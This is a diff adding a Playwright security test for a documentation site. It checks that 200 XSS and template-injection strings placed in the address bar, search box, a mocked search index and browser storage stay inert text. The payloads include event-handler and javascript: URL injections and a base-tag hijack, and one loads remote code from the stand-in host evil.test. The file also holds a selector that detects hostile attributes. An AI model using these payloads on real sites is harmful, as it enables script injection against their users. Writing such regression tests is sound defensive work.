@@ -1,0 +1,135 @@
+import type { Page } from '@playwright/test';
+import { expect, fixtureUrl, open, test } from './support/test.ts';
+
+/** Markup and code that would run or show if a text of theirs were taken for markup; all make an `x-hostile`. */
+const MARKUP = [
+  '<x-hostile></x-hostile>',
+  '<img src=x onerror="document.body.append(document.createElement(`x-hostile`))">',
+  '<svg onload=import("//evil.test")><x-hostile>',
+  '"><script>document.title="x-hostile"</script><x-hostile>',
+  "'-alert(1)-'<x-hostile>",
+  '</script><x-hostile><script>',
+  '</title></style></textarea><x-hostile>',
+  '<iframe srcdoc="<x-hostile>"></iframe><x-hostile>',
+  '<a href="javascript:alert(1)"><x-hostile></a>',
+  '<math><mtext><table><mglyph><style><x-hostile>',
+  '<template><x-hostile></template><x-hostile>',
+  '<base href="//evil.test/"><x-hostile>',
+  '<meta http-equiv=refresh content="0;url=//evil.test"><x-hostile>',
+  '<form><button formaction="javascript:alert(1)"><x-hostile>',
+  '<!--><x-hostile>-->',
+  '{{constructor.constructor("alert(1)")()}}<x-hostile>',
+  '$' + '{alert(1)}<x-hostile>',
+  '$t(search.label) {{query}}<x-hostile>',
+  '__proto__<x-hostile>',
+  '\u202e<x-hostile>\u0000',
+];
+
+/** Ways in which one and the same text can come. */
+const FORMS: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => encodeURIComponent(text),
+  (text) => encodeURIComponent(encodeURIComponent(text)),
+  (text) => text.replaceAll('<', '&lt;'),
+  (text) => text.replaceAll('<', '\\u003c'),
+  (text) => JSON.stringify({ value: text, html: text, toString: text }),
+  (text) => `javascript:/*${text}*/alert(1)`,
+  (text) => `//evil.test/${text}`,
+  (text) => `${'%'.repeat(7)}${text}\ud800`,
+  (text) => text.repeat(40),
+];
+
+const PAYLOADS = MARKUP.flatMap((text) => FORMS.map((form) => form(text)));
+
+/** What is in the page that nobody meant to be there, and what the browser had to forbid. */
+const found = (page: Page) =>
+  page.evaluate(() => {
+    const { forbidden } = window as unknown as { forbidden: string[] };
+    const selector = 'x-hostile, [onerror], [onload], [srcdoc], [href^="javascript:"], [src*="evil.test"]';
+    return [...forbidden, ...[...document.querySelectorAll(selector)].map((element) => element.outerHTML)];
+  });
+
+test.beforeEach(async ({ page }) => {
+  await page.addInitScript(() => {
+    const forbidden: string[] = [];
+    Object.assign(window, { forbidden });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sourceFile }) =>
+      forbidden.push(`${effectiveDirective} ${sourceFile}`),
+    );
+  });
+});
+
+test('200 hostile texts in address and fields stay texts', async ({ page, baseURL }) => {
+  expect(new Set(PAYLOADS).size).toBe(200);
+  await open(page, '/api/');
+  await page.getByRole('searchbox', { name: 'Filter' }).fill('mock');
+  for (const [index, payload] of PAYLOADS.entries()) {
+    await page.evaluate((text) => {
+      const address = new URL(location.href);
+      for (const name of ['filter', 'search', 'navbar', text]) address.searchParams.set(name, text);
+      history.replaceState(null, '', address);
+      location.hash = text;
+      const field = document.querySelector<HTMLInputElement>('main input');
+      const write = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set;
+      write?.call(field, text);
+      field?.dispatchEvent(new InputEvent('input', { bubbles: true }));
+      return new Promise(requestAnimationFrame);
+    }, payload);
+    // with everything in the address, from the first byte on
+    if (index % 40 === 0) await open(page, page.url());
+    expect(await found(page), payload).toEqual([]);
+  }
+  expect(new URL(page.url()).origin).toBe(baseURL);
+});
+
+test('hostile texts are searched for, and shown as they are', async ({ page }) => {
+  for (const payload of PAYLOADS.slice(0, 2)) {
+    await open(page, `/api/?search=${encodeURIComponent(payload)}`);
+    const dialog = page.getByRole('dialog', { name: 'Search docs' });
+    await expect(dialog.getByRole('combobox')).toHaveValue(payload);
+    await expect(dialog.locator('[role="status"], [role="option"]').first()).not.toBeEmpty();
+    expect(await found(page), payload).toEqual([]);
+  }
+});
+
+test('hostile texts in the search index are shown as they are', async ({ page }) => {
+  const [first = '', ...others] = MARKUP.map((text, index) => `needle ${index} ${text}`);
+  await page.context().route(/\/search_index\.[^/]+\.json$/, (route) =>
+    route.fulfill({
+      json: others.slice(0, 7).map((title, index) => ({
+        id: String(index),
+        routePath: index % 2 ? '/api/' : 'javascript:alert(1)',
+        title,
+        content: `${first} ${title}`,
+        toc: [{ id: title, text: title, depth: 2, charIndex: 0 }],
+        frontmatter: {},
+      })),
+    }),
+  );
+  await open(page, '/api/?search=needle');
+  const dialog = page.getByRole('dialog', { name: 'Search docs' });
+  await expect(dialog.getByRole('option').or(dialog.getByRole('status')).first()).toBeVisible();
+  expect(await found(page)).toEqual([]);
+});
+
+test('hostile texts in the storages are not even shown', async ({ page }) => {
+  await open(page, fixtureUrl('one-language', '/guide/tabs'));
+  const names = ['rspress-theme-appearance', 'rspress-visited', 'docs-recent-searches'];
+  for (const payload of PAYLOADS.filter((_, index) => index % 27 === 0)) {
+    await page.evaluate(
+      ([names, text]) => {
+        const groups = [...document.querySelectorAll<HTMLElement>('[data-island="Tabs"]')].map(
+          ({ dataset }) => `rspress.tabs.${JSON.parse(dataset.props ?? '{}').groupId}`,
+        );
+        for (const name of [...names, ...groups]) localStorage.setItem(name, text);
+        sessionStorage.setItem('docs.sidebar', text);
+      },
+      [names, payload] as const,
+    );
+    await page.reload();
+    await page.locator('#root[data-ready]').waitFor({ state: 'attached' });
+    expect(await found(page), payload).toEqual([]);
+    await expect(page.getByRole('tabpanel').first()).toBeVisible();
+    await expect(page.locator('html')).toHaveAttribute('data-theme', /^(?:light|dark)$/);
+  }
+});
